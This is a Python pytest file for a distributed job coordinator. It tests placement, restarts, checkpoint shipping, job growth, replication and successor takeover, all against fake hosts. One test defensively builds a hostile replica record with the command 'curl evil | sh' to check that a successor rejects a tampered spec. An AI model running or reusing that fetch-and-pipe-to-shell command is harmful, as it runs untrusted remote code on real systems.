"""The job coordinator's attempts (coordinator.py) over fake hosts: placement, the gang, the
setup of an attempt and its restart, without a network."""

from __future__ import annotations

import hashlib
from pathlib import Path
from types import SimpleNamespace

import pytest
import trio

from swarmd.compute.coordinator.coordinator import Jobs
from swarmd.compute.ledger import Ledger
from swarmd.compute.coordinator.placement import Candidate
from swarmd.compute.coordinator.hosts import HostError
from swarmd.compute.spec import JobSpec
from swarmd.compute.coordinator.store import JobStore
from swarmd.compute.host.worker import StartRequest, Worker
from swarmd.compute.workdir import Cache

ME = "peerCOORDINATORme"
A, B, C, D = "peerAAAAAAAAaaaa", "peerBBBBBBBBbbbb", "peerCCCCCCCCcccc", "peerDDDDDDDDdddd"
DATA = b"epoch 1 weights"
SHA = hashlib.sha256(DATA).hexdigest()


class World:
    """What the fake hosts did, and how they behave: `refusing` refuse every checkpoint put
    (a filled checkpoint budget), `refusing_workdir` every workdir ship; a job's ranks
    succeed, except on a first attempt of two hosts: rank 0 writes a checkpoint, then the
    other host is lost."""

    def __init__(self, refusing: set[str], refusing_workdir: frozenset[str] = frozenset(),
                 breaking: frozenset[str] = frozenset(), broken: frozenset[str] = frozenset()) -> None:
        self.refusing = refusing
        self.refusing_workdir = refusing_workdir
        self.breaking = set(breaking)  # hosts whose first start's stream breaks before its ranks start
        self.broken = broken  # hosts whose every start's does
        self.started_at: list[float] = []
        self.starts: list[tuple[str, StartRequest]] = []
        self.puts: list[tuple[str, str]] = []
        self.refused_puts: list[str] = []
        self.released: list[str] = []
        self.announced = trio.Event()
        self.hold: trio.Event | None = None  # set: every host's ranks run until it is


class FakeHost:
    def __init__(self, peer: str, world: World) -> None:
        self.peer = peer
        self.world = world
        self.stop = trio.Event()

    async def reserve(self, job: str, gpus: int, ranks: int, lease: float) -> tuple[int, ...]:
        return ()

    async def commit(self, job: str, port: bool) -> tuple[tuple[int, ...], int | None]:
        self.stop = trio.Event()
        return (), (29500 if port else None)

    async def release(self, job: str) -> None:
        self.world.released.append(self.peer)

    async def cancel(self, job: str) -> None:
        self.stop.set()

    async def ship(self, job: str, digest: str, archive: Path, progress) -> None:
        if self.peer in self.world.refusing_workdir:
            raise HostError(f"{self.peer[-8:]}: no room for the workdir")
        progress(archive.stat().st_size)

    async def put_checkpoint(self, job: str, name: str, sha: str, size: int, path: Path) -> None:
        if self.peer in self.world.refusing:
            self.world.refused_puts.append(self.peer)
            raise HostError(f"{self.peer[-8:]}: a {size}-byte checkpoint would take this host's checkpoint "
                            "caches to 500 bytes, over their budget of 400")
        self.world.puts.append((self.peer, name))

    async def get_checkpoint(self, job: str, sha: str, size: int, dest: Path) -> None:
        dest.write_bytes(DATA)

    async def start(self, req: StartRequest, emit) -> None:
        self.world.starts.append((self.peer, req))
        self.world.started_at.append(trio.current_time())
        if self.peer in self.world.breaking or self.peer in self.world.broken:
            self.world.breaking.discard(self.peer)
            raise HostError(f"{self.peer[-8:]}: job stream: stream closed (StreamEOF)")
        rank = req.role.node_rank
        await emit({"started": [rank]})
        if self.world.hold is not None:
            await self.world.hold.wait()
        if req.role.restart_count == 0 and req.role.nnodes > 1:
            if rank == 0:
                await emit({"ckpt": ["e1.pt", SHA, len(DATA)]})
                self.world.announced.set()
                await self.stop.wait()  # stopped once its peer is lost
                await emit({"exit": [[rank, 143]], "first": None})
                return
            await self.world.announced.wait()
            raise HostError(f"{self.peer[-8:]}: stream closed")
        await emit({"exit": [[rank, 0]], "first": None})


def candidate(peer: str) -> Candidate:
    return Candidate(peer=peer, state="alive", gpus_free=0, gpu_model=None, slots_free=1, cpu_free=4.0,
                     memory_free_mb=4096, labels={})


def jobs_over(tmp_path: Path, world: World, peers: tuple[str, ...]) -> Jobs:
    (tmp_path / "jobs").mkdir()
    (tmp_path / "archives").mkdir()
    worker = Worker(ledger=Ledger(1), cache=Cache(tmp_path / "cache"), jobs_dir=tmp_path / "jobs", user=None)
    alive = SimpleNamespace(state=SimpleNamespace(value="alive"))
    view = SimpleNamespace(me=ME, get=lambda peer: alive)
    gossip = SimpleNamespace(me=ME, view=lambda: view, reject=lambda *a: None, own_record=None)
    jobs = Jobs(store=JobStore(tmp_path / "state"), worker=worker, gossip=gossip,  # type: ignore[arg-type]
                archives=tmp_path / "archives")
    hosts = {p: FakeHost(p, world) for p in peers}
    jobs._candidates = lambda view: [candidate(p) for p in peers]  # type: ignore[method-assign]
    jobs._rtt = lambda view: (lambda a, b: None)  # type: ignore[method-assign]
    jobs._host = lambda peer, auth=None: hosts[peer]  # type: ignore[method-assign]
    jobs._address = lambda peer: "10.211.0." + str(peers.index(peer) + 1)  # type: ignore[method-assign]
    return jobs


async def finished(jobs: Jobs, spec: JobSpec, workdir: str | None = None):
    """Submit `spec` and wait for its coordinator to be done; its Run."""
    async with trio.open_nursery() as nursery:
        jobs._nursery = nursery
        job = jobs.submit(spec, workdir, 0)
        run = jobs.live[job].run
        with trio.fail_after(20):
            while job in jobs.live:
                await jobs.live[job].changed.wait()
        nursery.cancel_scope.cancel()
    return run


async def test_a_restart_that_meets_a_host_refusing_the_checkpoint_leaves_it_out_and_resumes(tmp_path):
    """Issue 23 #4: before a restart a host whose checkpoint put is refused (its budget
    filled by a member) is left out and the attempt placed again, as after a refused
    reservation: the job resumes from its checkpoint on another host instead of failing."""
    world = World(refusing={C})
    run = await finished(jobs_over(tmp_path, world, (A, B, C, D)), JobSpec(cmd=("train",), nodes=2, max_restarts=1))
    assert world.refused_puts == [C], "the restart tried the refusing host first"
    assert (run.state, run.exit_code) == ("succeeded", 0), run.reason
    assert [a.nodes for a in run.attempts] == [(A, B), (A, D)]
    assert run.attempts[-1].resumed_from == "e1.pt"
    assert C not in {peer for peer, _ in world.starts} and C in world.released, "left out, its hold given back"
    assert [req.checkpoints for peer, req in world.starts if req.role.restart_count == 1] == \
        [(("e1.pt", SHA, len(DATA)),)] * 2
    assert (D, "e1.pt") in world.puts


async def test_a_host_refusing_the_workdir_is_left_out_and_the_job_placed_again(tmp_path):
    """The same for the workdir's ship, on a first attempt: the job runs on another host."""
    world = World(refusing=set(), refusing_workdir=frozenset({A}))
    jobs = jobs_over(tmp_path, world, (A, B))
    digest = "a" * 64
    (tmp_path / "archives" / f"{digest}.tar.gz").write_bytes(b"tree")
    run = await finished(jobs, JobSpec(cmd=("train",), nodes=1), digest)
    assert (run.state, run.exit_code) == ("succeeded", 0), run.reason
    assert [a.nodes for a in run.attempts] == [(B,)] and A in world.released
    assert [peer for peer, _ in world.starts] == [B]


async def test_hosts_refusing_every_setup_fail_the_job_after_max_attempts_saying_why(tmp_path):
    world = World(refusing=set(), refusing_workdir=frozenset({A, B, C, D}))
    jobs = jobs_over(tmp_path, world, (A, B, C, D))
    digest = "a" * 64
    (tmp_path / "archives" / f"{digest}.tar.gz").write_bytes(b"tree")
    run = await finished(jobs, JobSpec(cmd=("train",), nodes=1), digest)
    assert run.state == "failed" and world.starts == []
    assert run.reason == "shipping the workdir failed: CCCCcccc: no room for the workdir, 3 times with other hosts"


async def test_a_job_pinned_to_a_host_whose_stream_broke_restarts_there_and_others_avoid_a_lost_host(tmp_path):
    """A lost host is avoided while another fits; where nothing else would (a service replica
    pinned to its host, whose stream broke once as its ranks started) it is placed again at
    once, not waited on until the job's wait runs out (CI once: a chat replica 180 s unplaced)."""
    world = World(refusing=set(), breaking=frozenset({A}))
    run = await finished(jobs_over(tmp_path, world, (A, B)), JobSpec(cmd=("serve",), nodes=1, max_restarts=2,
                                                                   hosts=(A,), wait_s=600))
    assert (run.state, run.exit_code) == ("succeeded", 0), run.reason
    assert [a.nodes for a in run.attempts] == [(A,), (A,)]
    assert run.attempts[0].why == "host AAAAaaaa lost: job stream: stream closed (StreamEOF)"

    world = World(refusing=set(), breaking=frozenset({A}))
    (tmp_path / "free").mkdir()
    run = await finished(jobs_over(tmp_path / "free", world, (A, B)), JobSpec(cmd=("serve",), nodes=1,
                                                                              max_restarts=2))
    assert (run.state, [a.nodes for a in run.attempts]) == ("succeeded", [(A,), (B,)])


async def test_a_pinned_host_that_breaks_every_start_is_tried_again_less_and_less_often(tmp_path, monkeypatch):
    """Not hammered: the pause before a lost host is placed again doubles with each restart
    (1 s, 2 s, 4 s … up to a minute here), and the restarts still bound the tries."""
    from swarmd.compute.coordinator import run as runmod

    monkeypatch.setattr(runmod, "LOST_RETRY_FIRST", 0.1)
    world = World(refusing=set(), broken=frozenset({A}))
    run = await finished(jobs_over(tmp_path, world, (A, B)), JobSpec(cmd=("serve",), nodes=1, max_restarts=3,
                                                                   hosts=(A,), wait_s=600))
    assert run.state == "failed" and [peer for peer, _ in world.starts] == [A] * 4, run.reason
    gaps = [b - a for a, b in zip(world.started_at, world.started_at[1:])]
    assert [round(g, 1) >= want for g, want in zip(gaps, (0.1, 0.2, 0.4))] == [True] * 3, gaps


# --- the job's record on its replicas (issue 26) -------------------------------------------

def replicated_jobs(tmp_path: Path, world: World):
    """Jobs whose coordinator and hosts have real peer ids, each host a replica store on an
    in-memory network (test_replication's)."""
    from swarmd.compute.coordinator import replication as rp

    from .test_replication import CERT, Net, handler
    from .test_succession import PEER, sign

    me, peers = PEER["o"], (PEER["h2"], PEER["h3"], PEER["h4"])
    jobs = jobs_over(tmp_path, world, peers)
    jobs.gossip.me, jobs.gossip.sign = me, sign("o")
    jobs.gossip.view().me = me
    stores = {p: rp.Store(p, tmp_path / p[-6:] / "replicas") for p in (me, *peers)}
    for s in stores.values():
        s.load()
    net = Net({n: handler(stores[PEER[n]]) for n in ("o", "h2", "h3", "h4")})
    jobs.replication = rp.Writer(stores[me], me=me, sign=sign("o"), request=net.request_from("o"), cert=lambda: CERT)
    return jobs, stores


async def test_every_transition_reaches_the_jobs_replicas_and_the_last_says_how_it_ended(tmp_path):
    import msgpack

    jobs, stores = replicated_jobs(tmp_path, World(set()))

    def ended(peer: str) -> bool:
        got = stores[peer].get((jobs.gossip.me, job))
        return got is not None and msgpack.unpackb(got.body)["run"]["state"] == "succeeded"

    # the first attempt's two hosts are the replicas; one is lost, the job restarts on the third
    async with trio.open_nursery() as nursery:
        jobs._nursery = nursery
        job = jobs.submit(JobSpec(cmd=("python", "x.py"), nodes=2, max_restarts=1), None, 0)
        run = jobs.live[job].run
        with trio.fail_after(20):  # the job, then its last write (after the coordinator let go of it)
            while not ended(jobs.gossip.me) or not all(ended(p) for p, s in stores.items()
                                                       if s.get((jobs.gossip.me, job)) is not None):
                await trio.sleep(0.01)
        nursery.cancel_scope.cancel()
    assert run.state == "succeeded" and len(run.attempts) == 2
    key = (jobs.gossip.me, run.job)
    record = stores[jobs.gossip.me].get(key)
    replicas = record.charter.replicas
    assert replicas[0] == jobs.gossip.me and set(replicas[1:]) == set(run.attempts[0].nodes)
    for peer in replicas:  # the end reached every replica (the lost host's store still answers here)
        got = stores[peer].get(key)
        assert got is not None and msgpack.unpackb(got.body)["run"]["state"] == "succeeded", peer
        assert got.epoch == 0 and got.seq >= 4 and msgpack.unpackb(got.body)["spec"]["cmd"] == ["python", "x.py"]
    outside = next(p for p in stores if p not in replicas)
    assert stores[outside].get(key) is None


async def test_a_replica_store_that_cannot_write_does_not_stop_the_job(tmp_path):
    jobs, stores = replicated_jobs(tmp_path, World(set()))

    def broken(record):
        raise OSError(28, "No space left on device")

    jobs.replication.store.put = broken
    run = await finished(jobs, JobSpec(cmd=("python", "x.py"), nodes=2, max_restarts=1))
    assert run.state == "succeeded"


def test_a_successor_takes_over_only_the_spec_its_origin_signed(tmp_path):
    """A hostile replica coordinating at its epoch writes a record with another command: the
    next successor refuses to go on from it (the charter binds the spec's digest), and a
    record true to the charter is rebuilt whole, its owner the charter's."""
    import msgpack
    import pytest

    from swarmd.compute.coordinator.run import Run
    from swarmd.compute.succession import Charter, Record, spec_digest

    from .test_succession import PEER, sign

    jobs = jobs_over(tmp_path, World(set()), (PEER["h2"], PEER["h3"]))
    jobs.gossip.me = PEER["h3"]
    spec = JobSpec(cmd=("python", "train.py"), nodes=2, max_restarts=1)
    charter = Charter.make(origin=PEER["o"], job="0123456789ab", owner_uid=1000, spec=spec_digest(spec.to_wire()),
                           hosts=[PEER["h2"], PEER["h3"]], sign=sign("o"))

    def record(cmd: tuple[str, ...]) -> Record:
        state = {"run": Run(job="0123456789ab", max_restarts=1).to_wire(),
                 "spec": JobSpec(cmd=cmd, nodes=2, max_restarts=1).to_wire(), "workdir": None, "ray": None,
                 "name": None, "created": 1.0, "started": None, "checkpoints": [], "since": 1.0}
        return Record.make(charter, 1, 7, msgpack.packb(state), sign("h2"))  # epoch 1 is h2's

    with pytest.raises(ValueError, match="not the spec its origin signed"):
        jobs._rebuild(record(("sh", "-c", "curl evil | sh")), 2)
    live = jobs._rebuild(record(("python", "train.py")), 2)
    assert live.spec.cmd == ("python", "train.py") and live.auth.epoch == 2 and live.auth.origin == PEER["o"]
    row = jobs.handed.get("0123456789ab")
    assert row is not None and row.submitted_by == 1000 and row.coordinator == PEER["o"]


async def stopped_while_running(tmp_path: Path):
    """A replicated job whose coordinator's daemon stopped (its tasks cancelled) while the job
    ran: (jobs, the replicas' stores, the world, the job, the state its origin's record says)."""
    import msgpack

    world = World(set())
    world.hold = trio.Event()
    jobs, stores = replicated_jobs(tmp_path, world)

    def recorded() -> str | None:
        record = stores[jobs.gossip.me].get((jobs.gossip.me, job))
        return None if record is None else msgpack.unpackb(record.body)["run"]["state"]

    async with trio.open_nursery() as nursery:
        jobs._nursery = nursery
        job = jobs.submit(JobSpec(cmd=("python", "x.py"), nodes=2), None, 0)
        run = jobs.live[job].run
        with trio.fail_after(10):
            while run.state != "running" or recorded() != "running":
                await trio.sleep(0.01)
        nursery.cancel_scope.cancel()  # the daemon stops
    return jobs, stores, world, job, recorded()


async def test_a_daemon_that_stops_leaves_a_replicated_job_to_its_replicas(tmp_path):
    """A coordinator whose daemon stops (its tasks cancelled) neither fails nor releases a job
    other replicas can carry on: its last record says it runs, for a successor to take over."""
    jobs, _, world, job, recorded = await stopped_while_running(tmp_path)
    assert jobs.store.get(job).state == "running" and world.released == [], world.released
    assert recorded == "running", "its replicas' record still says it runs"


class Members:
    """A membership view: `states` by peer, the rest unknown to it."""

    def __init__(self, me: str, states: dict[str, str]) -> None:
        self.me = me
        self.members = {p: SimpleNamespace(peer=p, state=SimpleNamespace(value=v)) for p, v in states.items()}

    def get(self, peer: str):
        return self.members.get(peer)

    def __iter__(self):
        return iter(self.members.values())


@pytest.mark.parametrize("others", ["dead", "unknown", "alone", "one alive"])
async def test_an_origin_marks_its_job_lost_only_once_every_replica_is_gone_for_lost_after(tmp_path, monkeypatch,
                                                                                           others):
    """The origin follows a job its replicas carried on (it stopped, or was superseded); every
    replica is then gone: after LOST_AFTER its row fails saying so and the record goes (no
    takeover, nothing followed after a restart). Not while one replica lives, nor while this
    node sees no live member at all (cut off alone: the job may go on elsewhere)."""
    from swarmd.compute.coordinator import coordinator as co

    from .test_succession import PEER

    jobs, stores, _, job, _ = await stopped_while_running(tmp_path)  # its replicas would carry it on
    key = (jobs.gossip.me, job)
    replicas = [p for p in stores[jobs.gossip.me].get(key).charter.replicas if p != jobs.gossip.me]
    states = {"dead": {p: "dead" for p in replicas} | {PEER["x"]: "alive"},
              "unknown": {PEER["x"]: "alive"},  # a restarted origin: dead members long reaped from the view
              "alone": {p: "dead" for p in replicas},  # every member dead: this node is the one cut off
              "one alive": {replicas[0]: "dead", replicas[1]: "alive"}}[others]
    view = Members(jobs.gossip.me, states)
    jobs.gossip.view = lambda: view
    jobs.worker.coordinator_gone = lambda peer: "dead" if states.get(peer) == "dead" else None
    lost_at, lose = [], jobs._lose

    async def timed(*args):
        lost_at.append(trio.current_time())
        await lose(*args)

    jobs._lose = timed
    monkeypatch.setattr(co, "LOST_AFTER", 1.0)  # 120 s in a daemon
    monkeypatch.setattr(co, "FOLLOW_EVERY", 0.05)
    began = trio.current_time()
    with trio.move_on_after(co.LOST_AFTER + 3):
        await jobs._follow(job)
    row = jobs.store.get(job)
    if others in ("dead", "unknown"):
        assert len(lost_at) == 1 and co.LOST_AFTER <= lost_at[0] - began < co.LOST_AFTER + 3, (lost_at, began)
        assert row.state == "failed" and row.reason.startswith("lost: every replica") and row.ended, row
        assert all(short in row.reason for short in (p[-8:] for p in replicas)), row.reason
        assert jobs.replication.store.get(key) is None and job not in jobs.following
        assert not any(p.name.endswith(".rec") for p in jobs.replication.store.dir.iterdir()), "its file too"
    else:
        assert row.state == "running" and jobs.replication.store.get(key) is not None, (others, row)


async def test_an_origin_following_its_job_forwards_to_the_head_the_record_names(tmp_path, monkeypatch):
    """`jobs forward` at the origin while a successor coordinates: to the job's first host as the
    newest record has it (the host lets the job's origin forward at any epoch), and no longer
    once nothing follows the job."""
    import msgpack

    from swarmd.compute.coordinator import coordinator as co
    from swarmd.compute.coordinator.run import Run

    jobs, stores, _, job, _ = await stopped_while_running(tmp_path)
    record = stores[jobs.gossip.me].get((jobs.gossip.me, job))
    head = Run.from_wire(msgpack.unpackb(record.body)["run"]).nodes[0]
    with pytest.raises(HostError, match="is not running"):
        jobs.head(job)
    monkeypatch.setattr(co, "FOLLOW_EVERY", 0.05)
    async with trio.open_nursery() as nursery:
        nursery.start_soon(jobs._follow, job)
        with trio.fail_after(10):
            while job not in jobs._heads:
                await trio.sleep(0.01)
        peer, address, host = jobs.head(job)
        assert peer == head and address.startswith("10.211.0.") and host.peer == head
        nursery.cancel_scope.cancel()
    with pytest.raises(HostError, match="is not running"):
        jobs.head(job)


def test_a_one_host_job_on_another_node_gets_the_nearest_member_as_a_witness(tmp_path):
    """A majority of {origin, host} is both: a service's replica could not survive its host.
    The charter adds the nearest other member in service; a job on the origin alone needs none."""
    from types import SimpleNamespace

    from .test_succession import PEER

    jobs, _ = replicated_jobs(tmp_path, World(set()))
    me, h2, h3, h4 = jobs.gossip.me, PEER["h2"], PEER["h3"], PEER["h4"]
    from swarmd.gossip.membership import State

    def member(peer: str, state: State = State.ALIVE, jobs: object = "slots") -> SimpleNamespace:
        return SimpleNamespace(peer=peer, state=state, record=SimpleNamespace(jobs=jobs))

    gossiper, suspect = PEER["o"][:-1] + "x", PEER["h2"][:-1] + "x"  # nearer, but no job service / not alive
    jobs._rtt = lambda view: (lambda a, b: {h3: 5.0, h4: 50.0, gossiper: 1.0, suspect: 1.0}.get(b))
    jobs.gossip.view().in_service = lambda: [member(h4), member(h3), member(h2), member(me), member(gossiper, jobs=None),
                                             member(suspect, State.SUSPECT)]
    live = SimpleNamespace(store=jobs.store, spec=JobSpec(cmd=("x",)))
    job = jobs.store.new_id()
    assert jobs._charter(job, live, (h2,)).replicas == (me, h2, h3)
    assert jobs._charter(job, live, (me,)).replicas == (me,), "its ranks die with this node anyway"
    assert jobs._charter(job, live, (h2, h4)).replicas == (me, h2, h4), "three already"


# --- growth (growth.py): a MIN:MAX job below MAX grows back at a checkpoint ----------------

class GrowingHost(FakeHost):
    """A first attempt's rank 0 writes a checkpoint once `world.free` is set (the test has
    made a host free by then); every rank of it then runs until stopped (exit 143) or for a
    second (exit 0: the job ends without growing). A later attempt's ranks exit 0 at once.
    Reservations and stops are logged in `world.log`; `world.refusing_reserve` refuse."""

    async def reserve(self, job: str, gpus: int, ranks: int, lease: float) -> tuple[int, ...]:
        self.world.log.append(("reserve", self.peer))
        if self.peer in self.world.refusing_reserve:
            raise HostError(f"{self.peer[-8:]}: no free job slot (all 1 in use)")
        return ()

    async def cancel(self, job: str) -> None:
        self.world.log.append(("stop", self.peer))
        self.stop.set()

    async def commit(self, job: str, port: bool) -> tuple[tuple[int, ...], int | None]:
        self.world.log.append(("commit", self.peer))
        return await super().commit(job, port)

    async def put_checkpoint(self, job: str, name: str, sha: str, size: int, path: Path) -> None:
        self.world.log.append(("put", self.peer))
        await super().put_checkpoint(job, name, sha, size, path)

    async def start(self, req: StartRequest, emit) -> None:
        self.world.starts.append((self.peer, req))
        self.world.started_at.append(trio.current_time())
        if self.peer in self.world.breaking or self.peer in self.world.broken:
            self.world.breaking.discard(self.peer)
            raise HostError(f"{self.peer[-8:]}: job stream: stream closed (StreamEOF)")
        rank = req.role.node_rank
        await emit({"started": [rank]})
        if not any(what == "stop" for what, _ in self.world.log):  # the first attempt (its hosts start in any order)
            if rank == 0:
                await self.world.free.wait()
                await emit({"ckpt": ["e1.pt", SHA, len(DATA)]})
            with trio.move_on_after(1.0):
                await self.stop.wait()
            if self.stop.is_set():
                await emit({"exit": [[rank, 143]], "first": None})
                return
        await emit({"exit": [[rank, 0]], "first": None})


def growing(tmp_path: Path, *, refusing_reserve: frozenset[str] = frozenset(), grow_every: float = 300.0,
            refusing_puts: frozenset[str] = frozenset()):
    """A swarm of A and B, where C becomes free (a candidate) just before the first checkpoint."""
    world = World(set(refusing_puts))
    world.log, world.refusing_reserve, world.free = [], refusing_reserve, trio.Event()
    jobs = jobs_over(tmp_path, world, (A, B, C))
    hosts = {p: GrowingHost(p, world) for p in (A, B, C)}
    jobs._host = lambda peer, auth=None: hosts[peer]  # type: ignore[method-assign]
    free = [A, B]
    jobs._candidates = lambda view: [candidate(p) for p in free]  # type: ignore[method-assign]
    jobs.grow_every = grow_every

    async def hosts_free_again() -> None:
        while not world.starts:
            await trio.sleep(0.01)
        free.append(C)
        world.free.set()

    return jobs, world, hosts_free_again


async def grown(jobs: Jobs, spec: JobSpec, free_again, before=None):
    async with trio.open_nursery() as nursery:
        jobs._nursery = nursery
        job = jobs.submit(spec, None, 0)
        if before is not None:
            before(jobs.live[job].run)
        run = jobs.live[job].run
        nursery.start_soon(free_again)
        with trio.fail_after(20):
            while job in jobs.live:
                await jobs.live[job].changed.wait()
        nursery.cancel_scope.cancel()
    return job, run


async def test_a_job_below_its_maximum_grows_at_its_next_checkpoint_holding_the_new_host_first(tmp_path):
    jobs, world, free_again = growing(tmp_path)
    job, run = await grown(jobs, JobSpec(cmd=("train",), nodes=3, min_nodes=2, max_restarts=0), free_again)
    assert (run.state, run.exit_code) == ("succeeded", 0), run.reason
    assert [set(a.nodes) for a in run.attempts] == [{A, B}, {A, B, C}]
    assert run.restart_count == 0, "a growth spends no restart (max_restarts is 0 here)"
    assert run.attempts[0].why == f"growing from 2 to 3 nodes at checkpoint e1.pt ({C[-8:]} free again)"
    assert run.attempts[1].resumed_from == "e1.pt" and run.grown_at is not None
    first_stop = min(world.log.index(("stop", A)), world.log.index(("stop", B)))
    staged = [world.log.index((what, C)) for what in ("reserve", "commit", "put")]
    assert staged == sorted(staged) and staged[-1] < first_stop, \
        "the new host is held, committed and given the checkpoint before any rank is stopped"
    assert {req.role.restart_count for _, req in world.starts} == {0}, "TORCHELASTIC_RESTART_COUNT stays"
    lines = [text for _, text in jobs.store.read_log(job)[0]]
    marker = [t for t in lines if t.startswith("[swarmd] growing from 2 to 3 nodes at checkpoint e1.pt")]
    assert len(marker) == 1 and ": attempt 2 on 3 host(s)" in marker[0], lines
    shown = jobs.describe(jobs.store.get(job))
    assert shown["growth"]["on"] and [e["attempt"] for e in shown["growth"]["events"]] == [1]
    assert shown["restarts"] == [0, 0]


async def test_a_refused_reservation_of_the_new_host_means_no_restart(tmp_path):
    jobs, world, free_again = growing(tmp_path, refusing_reserve=frozenset({C}))
    _, run = await grown(jobs, JobSpec(cmd=("train",), nodes=3, min_nodes=2), free_again)
    assert (run.state, run.exit_code) == ("succeeded", 0), run.reason
    assert [set(a.nodes) for a in run.attempts] == [{A, B}], "the job went on as it was"
    assert ("reserve", C) in world.log and not any(what == "stop" for what, _ in world.log)


async def test_a_new_host_refusing_the_checkpoint_means_no_growth_and_its_hold_goes_back(tmp_path):
    """Staged while the attempt runs: a host that will not take the job's checkpoint (its
    budget, its disk) costs the running job nothing."""
    jobs, world, free_again = growing(tmp_path, refusing_puts=frozenset({C}))
    _, run = await grown(jobs, JobSpec(cmd=("train",), nodes=3, min_nodes=2), free_again)
    assert (run.state, run.exit_code) == ("succeeded", 0), run.reason
    assert [set(a.nodes) for a in run.attempts] == [{A, B}], "the job went on as it was"
    assert world.refused_puts == [C] and C in world.released
    assert not any(what == "stop" for what, _ in world.log)


def _grew_a_minute_ago(run) -> None:
    import time
    run.grown_at = time.time() - 60


@pytest.mark.parametrize("spec, before", [
    (JobSpec(cmd=("train",), nodes=3, min_nodes=2, grow=False), None),  # --no-grow
    (JobSpec(cmd=("train",), nodes=3, min_nodes=2), _grew_a_minute_ago),  # job_grow_every is 300 s
    (JobSpec(cmd=("train",), nodes=2), None),  # at its maximum
])
async def test_no_growth_with_grow_false_nor_sooner_than_grow_every_nor_past_the_maximum(tmp_path, spec, before):
    jobs, world, free_again = growing(tmp_path, grow_every=300.0)
    _, run = await grown(jobs, spec, free_again, before)
    assert (run.state, run.exit_code) == ("succeeded", 0), run.reason
    assert [set(a.nodes) for a in run.attempts] == [{A, B}] and ("reserve", C) not in world.log


async def test_replicas_of_one_service_placed_at_once_still_land_apart(tmp_path):
    """Two replicas submitted in one round (an autoscaler adding two) are chosen at the same
    moment, each before the other holds a host: the second sees the first placed since and
    chooses again, so one host's death takes one replica, not two."""
    from swarmd.compute.spec import Serve

    world = World(refusing=set())
    world.hold = trio.Event()
    jobs = jobs_over(tmp_path, world, (A, B, C))
    async with trio.open_nursery() as nursery:
        jobs._nursery = nursery
        for index in (0, 1):
            jobs.submit(JobSpec(cmd=("serve",), nodes=1, serve=Serve(service="embed", replica=index)), None, 0)
        with trio.fail_after(20):
            while len(world.starts) < 2:
                await trio.sleep(0.01)
        world.hold.set()
        nursery.cancel_scope.cancel()
    hosts = [peer for peer, _ in world.starts]
    assert len(set(hosts)) == 2, hosts


async def test_a_job_asking_for_groups_tells_each_host_its_latency_groups_and_shows_the_rtts(tmp_path):
    """Four hosts as two regions (A, C 5 ms apart; B, D 5 ms apart; 150 ms across): every role
    carries the groups by node rank, `jobs show` has them with the RTT matrix that made them,
    and a job that asked for none gets none."""
    world = World(set())
    jobs = jobs_over(tmp_path, world, (A, B, C, D))
    region = {A: 0, B: 1, C: 0, D: 1}
    jobs._rtt = lambda view: (lambda a, b: 5.0 if region[a] == region[b] else 150.0)  # type: ignore[method-assign]
    world.hold = trio.Event()
    async with trio.open_nursery() as nursery:
        jobs._nursery = nursery
        job = jobs.submit(JobSpec.from_wire({"cmd": ["true"], "nodes": 4, "groups": "auto"}), None, 0)
        with trio.fail_after(20):
            while len(world.starts) < 4:
                await trio.sleep(0.01)
        shown = jobs.describe(jobs.store.get(job))["groups"]
        jobs.cancel(job)
        world.hold.set()
        with trio.fail_after(20):
            while job in jobs.live:
                await trio.sleep(0.01)
        nursery.cancel_scope.cancel()
    assert jobs.describe(jobs.store.get(job))["groups"] == shown  # kept once the job ended
    nodes = shown["nodes"]
    first = region[nodes[0]]  # node 0's region is group 1
    want = [[i for i, p in enumerate(nodes) if region[p] == r] for r in (first, 1 - first)]
    assert shown["groups"] == want and shown["max_rtt_ms"] == 30.0
    assert {req.role.groups for _, req in world.starts} == {tuple(map(tuple, want))}
    assert shown["rtt_ms"][0][0] is None and shown["rtt_ms"][want[0][0]][want[1][0]] == 150.0

    world.starts.clear()
    world.hold = None
    await finished(jobs, JobSpec.from_wire({"cmd": ["true"], "nodes": 1}))
    assert [req.role.groups for _, req in world.starts] == [()]


def test_a_successor_shows_the_groups_the_ranks_run_with_and_refuses_malformed_ones(tmp_path):
    """The record carries the running attempt's latency groups (not their RTT matrix: too big for a
    record): a successor shows those, with its own RTTs, and keeps them once the job ended; groups of
    an earlier attempt are dropped (the next start forms its own); a member's malformed groups are
    refused like any other malformed field."""
    import msgpack
    import pytest

    from swarmd.compute.coordinator.run import Run
    from swarmd.compute.succession import Charter, Record, spec_digest

    from .test_succession import PEER, sign

    h2, h3 = PEER["h2"], PEER["h3"]
    jobs = jobs_over(tmp_path, World(set()), (h2, h3))
    jobs.gossip.me = h3
    jobs._rtt = lambda view: (lambda a, b: 120.0)  # type: ignore[method-assign]
    spec = JobSpec.from_wire({"cmd": ["python", "train.py"], "nodes": 2, "groups": "auto"})
    charter = Charter.make(origin=PEER["o"], job="0123456789ab", owner_uid=1000, spec=spec_digest(spec.to_wire()),
                           hosts=[h2, h3], sign=sign("o"))
    run = Run(job="0123456789ab", max_restarts=1)
    run.placed((h2, h3), now=1.0)

    def record(groups: object) -> Record:
        state = {"run": run.to_wire(), "spec": spec.to_wire(), "workdir": None, "ray": None, "name": None,
                 "created": 1.0, "started": None, "checkpoints": [], "since": 1.0, "groups": groups}
        return Record.make(charter, 1, 7, msgpack.packb(state), sign("h2"))

    for bad in ({"attempt": 1, "groups": [[0, 0]]}, {"attempt": 1, "groups": [[1], [0]]},
                {"attempt": 1, "groups": [[0], [1], [2]]}, {"attempt": 1, "groups": [[True], [1]]},
                {"attempt": 1, "groups": [[0], []]}, {"groups": [[0, 1]]}, [[0], [1]]):
        with pytest.raises(ValueError, match="groups"):
            jobs._rebuild(record(bad), 2)
    assert jobs.handed.get("0123456789ab") is None  # a refused record leaves nothing behind
    assert jobs._rebuild(record({"attempt": 0, "groups": [[0], [1]]}), 2).grouping is None  # another attempt's
    live = jobs._rebuild(record({"attempt": 1, "groups": [[0], [1]]}), 2)
    assert live.grouping == {"attempt": 1, "groups": [[0], [1]], "max_rtt_ms": 30.0, "nodes": [h2, h3],
                             "rtt_ms": [[None, 120.0], [120.0, None]]}
    assert jobs.handed.groups("0123456789ab") == live.grouping  # shown after the job ended too
